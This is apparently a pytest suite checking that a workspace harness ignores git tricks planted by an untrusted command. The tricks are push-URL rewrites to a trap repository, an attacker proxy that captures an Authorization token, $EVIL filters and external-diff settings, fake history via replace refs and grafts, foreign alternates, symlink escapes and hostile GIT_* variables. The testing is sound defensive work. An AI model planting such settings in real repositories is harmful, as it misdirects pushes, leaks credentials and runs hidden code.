"""What a command can make git believe in the repository that it finds in its checkout, and that it decides nothing.

Each poison has a control: plain git in that place takes it. So no case passes because the attack is mistyped.
"""

from __future__ import annotations

import subprocess
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

import pytest

from tests.support.repositories import make_repository
from tests.workspace.poison import Place
from tests.workspace.project import AUTHOR, BRANCH

pytestmark = pytest.mark.slow  # a repository and some programs for each

# --- where a push goes ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("plant", "plain"),
    [
        ("git config url.$OUTSIDE/trap.insteadOf $URL", "git push -q $URL HEAD:refs/heads/x"),
        ("git config url.$OUTSIDE/trap.pushInsteadOf $URL", "git push -q $URL HEAD:refs/heads/x"),
        (
            "git config remote.origin.url $URL; git config remote.origin.pushurl $OUTSIDE/trap",
            "git push -q origin HEAD:refs/heads/x",
        ),
    ],
)
def test_an_address_that_a_command_rewrote_is_not_where_we_push(plant: str, plain: str, place: Place) -> None:
    place.command(f"git init -q --bare $OUTSIDE/trap; {plant}; echo 2 > a")
    place.command(plain)
    trap = place.outside / "trap" / "refs" / "heads"
    assert [path.name for path in trap.iterdir()] == ["x"]
    place.harness()
    assert [path.name for path in trap.iterdir()] == ["x"]


@pytest.fixture
def heard() -> Iterator[tuple[str, list[str]]]:
    """A proxy of the attacker's: its address, and the credentials it was sent."""
    seen: list[str] = []

    class Proxy(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.headers.get("Authorization", ""))
            self.send_error(502)

        do_CONNECT = do_POST = do_GET  # noqa: N815 - the names that http.server calls

        def log_message(self, *_: object) -> None: ...

    server = ThreadingHTTPServer(("127.0.0.1", 0), Proxy)
    thread = Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", seen
    server.shutdown()
    thread.join()
    server.server_close()


def test_a_proxy_that_a_command_set_sees_nothing_of_us(place: Place, heard: tuple[str, list[str]]) -> None:
    address, seen = heard
    place.command(f"git config http.proxy {address}; git config http.{place.url}.proxy {address}; echo 2 > a")
    place.command("git -c http.extraHeader='Authorization: t0ken' ls-remote $URL", check=False)
    assert seen == ["t0ken"]
    place.harness()
    assert seen == ["t0ken"]


def test_what_a_command_writes_into_the_users_configuration_comes_too_late(
    place: Place, heard: tuple[str, list[str]]
) -> None:
    """Where files are not confined, the user's home is in reach."""
    address, seen = heard
    place.command(
        f"git config --global http.proxy {address}; git config --global core.alternateRefsCommand $EVIL; "
        "git config --global filter.x.clean $EVIL; git config --global core.attributesFile $OUTSIDE/at; "
        "echo '* filter=x' > $OUTSIDE/at; echo 2 > a; git init -q $OUTSIDE/r; "
        "git -C $OUTSIDE/r commit -q --allow-empty -m x; cp .git/index $OUTSIDE/index"
    )
    place.fired()
    place.command("git fetch -q $OUTSIDE/r")
    assert place.fired()
    place.command("git add -A; cp $OUTSIDE/index .git/index")
    assert place.fired()
    place.command("git ls-remote $URL", check=False)
    assert len(seen) == 1
    place.harness()
    assert not place.fired()
    assert len(seen) == 1


# --- what git takes for true ------------------------------------------------------------------------------


LIES: dict[str, tuple[str, str, str, str]] = {
    # what is planted, what plain git is asked, what it says before, what it says then
    "refs/replace": (
        "git replace HEAD:a $(echo lie | git hash-object -w --stdin)",
        "git cat-file -p HEAD:a",
        "5",
        "lie\n",
    ),
    "grafts": ("git rev-parse HEAD > .git/info/grafts", "git rev-list --count HEAD~0", "6\n", "1\n"),
    "shallow": ("git rev-parse HEAD > .git/shallow", "git rev-list --count HEAD~0", "6\n", "1\n"),
    "assume-unchanged": (
        "git update-index --assume-unchanged a; echo 2 > a",
        "git add -A; git diff --cached --name-only",
        "",
        "",
    ),
    "skip-worktree": (
        "git update-index --skip-worktree a; echo 2 > a",
        "git add -A; git diff --cached --name-only",
        "",
        "",
    ),
}


@pytest.mark.parametrize("name", LIES)
def test_what_a_command_makes_its_own_repository_say_is_nothing_to_us(name: str, place: Place) -> None:
    plant, plain, before, then = LIES[name]
    assert place.command(plain) == before
    place.command(plant)
    assert place.command(plain) == then
    if "echo 2" not in plant:
        place.command("echo 2 > a")
    sha = place.harness()
    origin = place.project.origin
    assert origin.git("rev-list", "--count", "main") == "6"
    assert origin.git("log", "-1", "--format=%s", "main..refs/heads/" + BRANCH) == "Do it"
    work = place.project.folder / "session" / "fetched.git"
    shown = subprocess.run(
        ["git", "--git-dir", work, "show", f"{sha}:a"], capture_output=True, check=True
    ).stdout
    assert shown == b"2\n"
    parents = subprocess.run(
        ["git", "--git-dir", work, "rev-list", "--count", sha], capture_output=True, check=True
    )
    assert parents.stdout == b"7\n"


def test_a_damaged_commit_graph_stops_plain_git_and_not_us(place: Place) -> None:
    place.command("git commit-graph write --reachable; chmod u+w .git/objects/info/commit-graph; echo 2 > a")
    graph = place.root / ".git" / "objects" / "info" / "commit-graph"
    whole = graph.read_bytes()
    graph.write_bytes(whole[: len(whole) // 2])
    said = subprocess.run(["git", "log"], cwd=place.root, capture_output=True, check=False).stderr
    assert b"commit-graph" in said
    place.harness()


def test_a_worktree_elsewhere_is_not_what_is_committed(place: Place) -> None:
    place.command("git config core.worktree $OUTSIDE; echo 2 > a")
    assert "secret" in place.command("git add -A; git show :file")
    sha = place.harness()
    files = place.project.origin.git("ls-tree", "-r", "--name-only", BRANCH)
    assert files.split() == ["a", "d/file", "report.log", "theirs", "vendor"]
    assert sha


def test_objects_of_elsewhere_do_not_get_into_a_commit(place: Place) -> None:
    """A tree that a command made of somebody else's objects is only in its own repository."""
    elsewhere = make_repository(place.outside / "r", {"secret": "x"})
    place.command("echo $OUTSIDE/r/.git/objects >> .git/objects/info/alternates")
    head = elsewhere.git("rev-parse", "HEAD")
    assert place.command(f"git cat-file -t {head}").strip() == "commit"
    place.command(f"git reset -q --soft {head}; git read-tree {head}; echo 2 > a")
    place.harness()
    assert "secret" not in place.project.origin.git("ls-tree", "-r", "--name-only", BRANCH)


@pytest.mark.parametrize("target", ["d", "report.log"])
def test_nothing_is_written_through_a_link_that_a_command_left(target: str, place: Place) -> None:
    goal = place.outside if target == "d" else place.outside / "file"
    place.command(f"rm -r {target}; ln -s {goal} {target}")
    place.command(f"echo through > {target}{'/file' if target == 'd' else ''}")
    assert (place.outside / "file").read_text() == "through\n"
    workspace = place.workspace
    with workspace.harness_running():
        pass
    workspace.tree()
    place.command("git status")
    workspace.open_for_agent(workspace.source.base_sha)
    assert (place.outside / "file").read_text() == "through\n"
    assert not (place.root / target).is_symlink()


# --- the environment --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("GIT_DIR", "{outside}/none"),
        ("GIT_WORK_TREE", "{outside}"),
        ("GIT_INDEX_FILE", "{outside}/index"),
        ("GIT_OBJECT_DIRECTORY", "{outside}/objects"),
        ("GIT_EXTERNAL_DIFF", "{evil}"),
        ("GIT_CONFIG_PARAMETERS", "'diff.external={evil}'"),
        ("GIT_CONFIG_GLOBAL", "{outside}/config"),
        ("GIT_CONFIG_SYSTEM", "{outside}/config"),
        ("GIT_ATTR_SOURCE", "HEAD"),
        ("GIT_REPLACE_REF_BASE", "refs/heads/"),
    ],
)
def test_variables_of_git_that_the_job_found_decide_nothing(
    name: str, value: str, place: Place, monkeypatch: pytest.MonkeyPatch
) -> None:
    (place.outside / "config").write_text(
        f"[diff]\n\texternal = {place.evil}\n[core]\n\thooksPath = {place.outside}\n"
    )
    (place.root / "a").write_text("2\n")
    monkeypatch.setenv(name, value.format(outside=place.outside, evil=place.evil))
    tree = place.workspace.tree()
    workspace = place.workspace
    sha = workspace.control.commit(tree, str(workspace.start), "Do it", AUTHOR)
    assert b"+2" in workspace.control.diff(sha)
    assert not place.fired()
    assert workspace.push(sha, BRANCH, AUTHOR, waits=()).sha == sha
    assert not place.fired()
